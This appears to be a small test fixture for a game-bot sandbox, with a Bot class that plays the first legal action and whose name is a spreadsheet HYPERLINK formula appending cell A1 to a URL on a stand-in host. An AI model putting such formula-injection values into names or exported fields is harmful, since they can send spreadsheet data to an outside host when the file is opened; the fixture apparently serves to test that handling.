# expect: fine
# levels: sandbox
"""Has a spreadsheet formula as its name."""

from Players.Player import Player


class Bot(Player):
    def think(self, observation, budget):
        return observation.get_list_actions()[0]

    def __str__(self):
        return '=HYPERLINK("http://x/?" & A1)'
